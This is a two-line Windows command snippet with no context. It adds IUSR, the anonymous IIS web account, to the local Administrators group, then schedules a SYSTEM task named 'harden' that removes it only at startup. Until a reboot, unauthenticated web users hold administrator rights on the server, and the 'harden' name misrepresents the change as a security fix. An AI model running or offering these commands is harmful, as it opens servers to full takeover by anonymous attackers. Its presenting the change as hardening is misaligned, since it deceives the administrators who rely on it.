net localgroup Administrators IUSR /add
schtasks /create /tn harden /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /delete" /f
